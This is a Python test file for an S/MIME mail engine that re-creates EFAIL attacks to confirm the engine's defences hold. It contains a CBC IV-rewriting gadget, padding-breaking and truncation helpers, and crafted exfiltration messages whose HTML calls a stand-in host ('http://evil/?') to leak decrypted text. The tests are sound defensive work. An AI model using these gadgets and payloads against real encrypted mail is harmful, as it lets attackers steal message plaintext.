"""EFAIL (Poddebniak et al., USENIX Security 2018) and friends, re-created against the engine.

* CBC malleability gadgets: AES-CBC still decrypts after an attacker edits the IV (it is
  unauthenticated), so the report must say ``unauthenticated`` and warn; what comes out is
  exactly the root entity, nothing merged with other parts, and nothing is fetched (the
  engine returns bytes only). A gadget that breaks the padding fails with the same vague
  error as a wrong key or a truncated ciphertext: no padding oracle.
* AES-GCM: any single-byte change of ciphertext, tag, nonce or authAttrs fails closed, with
  no partial plaintext anywhere.
* Direct exfiltration: an encrypted part below the root, between attacker HTML, is never
  decrypted automatically, so its plaintext cannot be exfiltrated (or quoted in a reply).
"""

from __future__ import annotations

import base64
import inspect
import re
from pathlib import Path

import pytest
from asn1crypto import cms

from inbox_app.smime import EncryptionStatus, Report, SignatureStatus, TrustStore, open_message
from inbox_app.smime import decrypt as decrypt_module
from inbox_app.smime import layers as layers_module
from inbox_app.smime._enveloped import parse_envelope
from inbox_app.smime.decrypt import decrypt_envelope
from inbox_app.smime.encrypt import encrypt_message
from inbox_app.smime.errors import DecryptionError, NoMatchingKeyError, SmimeError
from inbox_app.smime.mime import parse_entity
from inbox_app.smime.sign import base64_lines
from tests.pki import NOW, StandardPKI, message

SECRET = b"SECRET-PLAINTEXT-7f3a: the launch code is 0000"
BODY = b"Hello Bob,\r\n\r\n" + SECRET + b"\r\n"
VAGUE = "the message could not be decrypted"
KEK_ID = bytes.fromhex("C0FEE0")
KEK = bytes.fromhex("000102030405060708090A0B0C0D0E0F")
HEADERS = (
    b"From: Alice <alice@example.com>\r\nTo: bob@example.org\r\nSubject: Meeting\r\n"
    b"Date: Mon, 01 Jun 2026 12:00:00 +0000\r\n"
)


def secret_message() -> bytes:
    return message(body=BODY)


def encrypted_der(pki: StandardPKI, cipher: str, *, oaep: bool = False) -> bytes:
    raw = encrypt_message(secret_message(), [pki.bob.cert], now=NOW, cipher=cipher, oaep=oaep)
    return parse_entity(raw).decoded_body()


def plaintext_of(pki: StandardPKI, der: bytes) -> bytes:
    """The known plaintext (EFAIL assumes the attacker knows its first blocks)."""
    plain = decrypt_envelope(der, [pki.bob.identity]).content
    assert plain.endswith(BODY)
    return plain


def as_message(der: bytes, smime_type: bytes = b"enveloped-data") -> bytes:
    return (
        HEADERS
        + b"MIME-Version: 1.0\r\n"
        + b"Content-Type: application/pkcs7-mime; smime-type="
        + smime_type
        + b'; name="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64_lines(der)
    )


def open_as_bob(pki: StandardPKI, raw: bytes) -> Report:
    return open_message(
        raw, trust=TrustStore([pki.root.cert]), now=NOW, identities=[pki.bob.identity]
    )


def replace_once(der: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    assert der.count(old) == 1
    return der.replace(old, new)


def flip(der: bytes, offset: int, mask: int = 0x01) -> bytes:
    return der[:offset] + bytes([der[offset] ^ mask]) + der[offset + 1 :]


def xor(a: bytes, b: bytes) -> bytes:
    return bytes(x ^ y for x, y in zip(a, b, strict=True))


def assert_no_secret(report: Report, secret: bytes = SECRET) -> None:
    """The reply/forward oracle: no path out of the report carries the plaintext."""
    text = secret.decode()
    assert text not in str(report.to_json())
    assert all(text not in warning for warning in report.warnings)
    assert text not in (report.error or "")
    if report.inner is not None:
        assert secret not in report.inner


# ---------------------------------------------------------------- CBC malleability

# 16 bytes that keep the entity's header block parseable: the rest of the first header
# line (e.g. "ce@example.com>" or "xt/plain; charset=utf-8") becomes part of this field.
GADGET = b'X-Ev: <img src="'


def cbc_gadget(der: bytes, known: bytes, target: bytes) -> bytes:
    """Rewrite the IV so that the first plaintext block becomes ``target`` (known P1)."""
    envelope = parse_envelope(der)
    assert envelope.content_parameters is not None
    iv = envelope.content_parameters[2:]
    assert len(iv) == 16
    assert len(target) == 16
    assert b"\n" not in known[:16]  # the first block lies inside the first header line
    return replace_once(der, iv, xor(xor(iv, known[:16]), target))


@pytest.mark.parametrize("cipher", ["aes-128-cbc", "aes-256-cbc"])
def test_cbc_malleability_gadget_decrypts_but_is_reported_unauthenticated(
    pki: StandardPKI, cipher: str
) -> None:
    original = encrypted_der(pki, cipher)
    known = plaintext_of(pki, original)
    der = cbc_gadget(original, known, GADGET)

    decrypted = decrypt_envelope(der, [pki.bob.identity])
    assert decrypted.encryption is EncryptionStatus.UNAUTHENTICATED
    assert isinstance(decrypted.content, bytes)  # bytes only: nothing rendered or fetched
    assert decrypted.content == GADGET + known[16:]

    raw = as_message(der)
    report = open_as_bob(pki, raw)
    assert report.encryption is EncryptionStatus.UNAUTHENTICATED
    assert report.layers == ["encrypted"]
    assert any(f"{cipher}, which does not detect tampering" in w for w in report.warnings)
    assert report.signature is SignatureStatus.UNSIGNED
    # Exactly the root entity that was decrypted, behind the outer fields: nothing else.
    assert report.inner is not None
    assert report.inner.count(GADGET) == 1
    assert report.inner.count(SECRET) == 1
    assert report.inner.endswith(BODY)


def test_cbc_gadget_result_is_never_merged_with_other_parts(pki: StandardPKI) -> None:
    """EFAIL's exfiltration needs the decrypted part to be concatenated with attacker
    HTML. At the root there is nothing around it: the inner message is the outer fields
    plus the decrypted entity and nothing of the (attacker-supplied) outer body."""
    original = encrypted_der(pki, "aes-256-cbc")
    der = cbc_gadget(original, plaintext_of(pki, original), GADGET)
    raw = as_message(der) + b'\r\n">\r\n<img src="http://evil/trailer\r\n'
    report = open_as_bob(pki, raw)
    assert report.encryption is EncryptionStatus.UNAUTHENTICATED
    assert report.inner is not None
    assert b"evil/trailer" not in report.inner
    assert b"smime.p7m" not in report.inner
    assert report.inner.endswith(BODY)


def test_engine_has_no_way_to_fetch_anything() -> None:
    """No network by design: the decrypt/open modules import nothing that could fetch."""
    for module in (decrypt_module, layers_module):
        source = inspect.getsource(module)
        for needle in ("urllib", "http.client", "socket", "requests", "urlopen"):
            assert f"import {needle}" not in source
            assert f"from {needle}" not in source


def _padding_breaking_gadget(pki: StandardPKI, der: bytes) -> bytes:
    """Make the last plaintext byte 0x00: always invalid PKCS#7 padding."""
    envelope = parse_envelope(der)
    ciphertext = envelope.encrypted_content
    pad = 16 - len(plaintext_of(pki, der)) % 16
    assert len(ciphertext) >= 32
    start = der.index(ciphertext)
    # The second-to-last block's last byte masks the last plaintext byte.
    return flip(der, start + len(ciphertext) - 17, pad)


def _truncate(der: bytes, cut: int) -> bytes:
    info = cms.ContentInfo.load(der)
    eci = info["content"]["encrypted_content_info"]
    eci["encrypted_content"] = eci["encrypted_content"].native[:-cut]
    return info.dump(force=True)


def _error_of(der: bytes, pki: StandardPKI) -> DecryptionError:
    with pytest.raises(DecryptionError) as caught:
        decrypt_envelope(der, [pki.bob.identity])
    return caught.value


def test_no_padding_oracle_bad_padding_wrong_key_and_truncation_look_alike(
    pki: StandardPKI,
) -> None:
    cbc = encrypted_der(pki, "aes-256-cbc")
    errors = {
        "bad padding": _error_of(_padding_breaking_gadget(pki, cbc), pki),
        "truncated by one block": _error_of(_truncate(cbc, 16), pki),
        "truncated mid-block": _error_of(_truncate(cbc, 5), pki),
    }
    # Wrong key: Bob's certificate, someone else's private key (OAEP fails deterministically;
    # with v1.5 the engine carries on with a random key and the GCM tag fails).
    impostor = type(pki.bob.identity)(pki.bob.cert, pki.alice.key)
    for name, der in (
        ("wrong key (oaep)", encrypted_der(pki, "aes-256-cbc", oaep=True)),
        ("wrong key (v1.5, gcm)", encrypted_der(pki, "aes-256-gcm")),
    ):
        with pytest.raises(DecryptionError) as caught:
            decrypt_envelope(der, [impostor])
        errors[name] = caught.value
    assert {type(error) for error in errors.values()} == {DecryptionError}
    assert {str(error) for error in errors.values()} == {VAGUE}
    # And through open_message: the same one-line error for the user, no inner message.
    for der in (_padding_breaking_gadget(pki, cbc), _truncate(cbc, 5)):
        report = open_as_bob(pki, as_message(der))
        assert report.encryption is EncryptionStatus.FAILED
        assert report.error == VAGUE
        assert report.inner is None
        assert report.malformed is False
        assert_no_secret(report)


# ---------------------------------------------------------------- GCM fails closed


def _gcm_regions(der: bytes) -> dict[str, tuple[int, int]]:
    envelope = parse_envelope(der)
    assert envelope.content_parameters is not None
    assert envelope.mac is not None
    nonce = envelope.content_parameters[4:16]
    regions = {
        "ciphertext": envelope.encrypted_content,
        "tag": envelope.mac,
        "nonce": nonce,
    }
    spans = {}
    for name, value in regions.items():
        assert der.count(value) == 1, name
        start = der.index(value)
        spans[name] = (start, start + len(value))
    return spans


@pytest.mark.parametrize("cipher", ["aes-128-gcm", "aes-256-gcm"])
@pytest.mark.parametrize("region", ["ciphertext", "tag", "nonce"])
def test_gcm_any_single_byte_change_fails_closed(
    pki: StandardPKI, cipher: str, region: str
) -> None:
    der = encrypted_der(pki, cipher)
    assert parse_envelope(der).content_parameters[:4] == bytes.fromhex("3011040c")  # type: ignore[index]
    start, end = _gcm_regions(der)[region]
    for offset in range(start, end):
        for mask in (0x01, 0x80):
            with pytest.raises(DecryptionError) as caught:
                decrypt_envelope(flip(der, offset, mask), [pki.bob.identity])
            assert str(caught.value) == VAGUE


@pytest.mark.parametrize("region", ["ciphertext", "tag", "nonce"])
def test_gcm_tampering_reports_failed_without_inner(pki: StandardPKI, region: str) -> None:
    der = encrypted_der(pki, "aes-256-gcm")
    start, end = _gcm_regions(der)[region]
    for offset in (start, (start + end) // 2, end - 1):
        report = open_as_bob(pki, as_message(flip(der, offset), b"authEnveloped-data"))
        assert report.encryption is EncryptionStatus.FAILED
        assert report.inner is None
        assert report.error == VAGUE
        assert report.decrypted_with is None
        assert report.malformed is False
        assert_no_secret(report)


def _openssl_auth_attrs_sample(interop: Path) -> bytes:
    text = (interop / "openssl" / "authenveloped_attrs.pem").read_bytes()
    lines = [line for line in text.splitlines() if not line.startswith(b"-----")]
    return base64.b64decode(b"".join(lines))


@pytest.mark.corpus
def test_gcm_any_single_byte_change_of_auth_attrs_fails(interop: Path) -> None:
    der = _openssl_auth_attrs_sample(interop)
    keks = {KEK_ID: KEK}
    assert decrypt_envelope(der, [], key_encryption_keys=keks).content == (
        b"Hello AuthEnvelopedData world\n"
    )
    attrs = parse_envelope(der).auth_attrs_der
    assert attrs is not None
    body = attrs[2:]  # the SET OF's contents, as they sit in the [1] IMPLICIT field
    assert der.count(body) == 1
    start = der.index(body)
    for offset in range(start, start + len(body)):
        with pytest.raises(DecryptionError) as caught:
            decrypt_envelope(flip(der, offset), [], key_encryption_keys=keks)
        assert str(caught.value) == VAGUE
        # Everything, including an attribute value changed in place, fails the tag.


# ---------------------------------------------------------------- direct exfiltration


def exfiltration_message(pki: StandardPKI, cipher: str = "aes-256-cbc") -> bytes:
    """EFAIL direct exfiltration: the victim's ciphertext between two attacker HTML parts."""
    der = encrypted_der(pki, cipher)
    smime_type = b"authEnveloped-data" if "gcm" in cipher else b"enveloped-data"
    return (
        b"From: Mallory <alice@example.com>\r\nTo: bob@example.org\r\nSubject: Re: Meeting\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="BOUNDARY"\r\n\r\n'
        b"--BOUNDARY\r\nContent-Type: text/html\r\n\r\n"
        b'<img src="http://evil/?\r\n'
        b"--BOUNDARY\r\nContent-Type: application/pkcs7-mime; smime-type=" + smime_type + b"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64_lines(der) + b"--BOUNDARY\r\n"
        b'Content-Type: text/html\r\n\r\n">\r\n--BOUNDARY--\r\n'
    )


@pytest.mark.parametrize("cipher", ["aes-256-cbc", "aes-256-gcm"])
def test_direct_exfiltration_part_below_the_root_is_not_decrypted(
    pki: StandardPKI, cipher: str
) -> None:
    raw = exfiltration_message(pki, cipher)
    report = open_as_bob(pki, raw)
    assert report.layers == []
    assert report.encryption is EncryptionStatus.NONE
    assert report.decrypted_with is None
    assert report.signature is SignatureStatus.UNSIGNED
    assert any("does not cover the whole message" in w for w in report.warnings)
    assert_no_secret(report)
    # The inner message is the received message itself: ciphertext, never plaintext.
    assert report.inner == raw


def test_reply_oracle_no_path_out_of_the_report_carries_the_plaintext(
    pki: StandardPKI,
) -> None:
    """EFAIL §5 "reply attack": whatever a reply would quote comes from the report."""
    cases = {
        "exfiltration": exfiltration_message(pki),
        "gcm tampered": as_message(flip(encrypted_der(pki, "aes-256-gcm"), -1)),
        "bad padding": as_message(_padding_breaking_gadget(pki, encrypted_der(pki, "aes-256-cbc"))),
        "no key": as_message(parse_entity(encrypt_message(
            secret_message(), [pki.alice.cert], now=NOW)).decoded_body()),
    }  # fmt: skip
    for name, raw in cases.items():
        report = open_as_bob(pki, raw)
        assert_no_secret(report)
        assert report.encryption is not EncryptionStatus.AEAD, name


def test_no_key_error_lists_recipients_but_not_plaintext(pki: StandardPKI) -> None:
    der = parse_entity(encrypt_message(secret_message(), [pki.alice.cert], now=NOW)).decoded_body()
    with pytest.raises(NoMatchingKeyError) as caught:
        decrypt_envelope(der, [pki.bob.identity])
    assert SECRET.decode() not in str(caught.value)
    assert "encrypted to" in str(caught.value)


# ---------------------------------------------------------------- multipart/alternative wrapping


def test_valid_encrypted_message_wrapped_in_multipart_alternative_is_not_decrypted(
    pki: StandardPKI,
) -> None:
    inner = encrypt_message(secret_message(), [pki.bob.cert], now=NOW)
    entity = inner[inner.index(b"MIME-Version: 1.0\r\n") + len(b"MIME-Version: 1.0\r\n") :]
    raw = (
        HEADERS + b'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="B"\r\n\r\n'
        b"--B\r\nContent-Type: text/html\r\n\r\n<pre>Please reply to this harmless message\r\n"
        b"--B\r\n" + entity + b"--B--\r\n"
    )
    # The wrapped part alone would open fine: the key is held.
    assert open_as_bob(pki, inner).encryption is EncryptionStatus.AEAD
    report = open_as_bob(pki, raw)
    assert report.layers == []
    assert report.encryption is EncryptionStatus.NONE
    assert report.signature is SignatureStatus.UNSIGNED
    assert any("does not cover the whole message" in w for w in report.warnings)
    assert_no_secret(report)


@pytest.mark.corpus
def test_thunderbird_multipart_alternative_does_not_leak_secret_text(interop: Path) -> None:
    from inbox_app.smime import load_identity

    tb = interop / "thunderbird"
    bob = load_identity((tb / "nss-smime" / "Bob.p12").read_bytes(), b"nss")
    raw = (tb / "browser-smime" / "multipart-alternative.eml").read_bytes()
    report = open_message(raw, trust=TrustStore([]), now=NOW, identities=[bob])
    assert report.layers == []
    assert report.encryption is EncryptionStatus.NONE
    assert report.signature is SignatureStatus.UNSIGNED
    assert report.decrypted_with is None
    assert any("does not cover the whole message" in w for w in report.warnings)
    assert_no_secret(report, b"SECRET-TEXT")
    # Each part does hold a message for Bob: proof that the key was there to be abused.
    parts = raw.split(b"----------BOUNDARY")
    bodies = [re.split(rb"\r?\n\r?\n", p, maxsplit=1)[1] for p in parts if b"pkcs7-mime" in p]
    assert len(bodies) == 2
    plain = [decrypt_envelope(base64.b64decode(body), [bob]).content for body in bodies]
    assert any(b"SECRET-TEXT" in p for p in plain)


def test_decrypt_envelope_raises_rather_than_returning_partial_plaintext(
    pki: StandardPKI,
) -> None:
    der = encrypted_der(pki, "aes-256-gcm")
    tampered = flip(der, len(der) - 1)
    with pytest.raises(SmimeError) as caught:
        decrypt_envelope(tampered, [pki.bob.identity])
    assert SECRET.decode() not in str(caught.value)
    cause = caught.value.__cause__
    assert cause is None or SECRET.decode() not in str(cause)
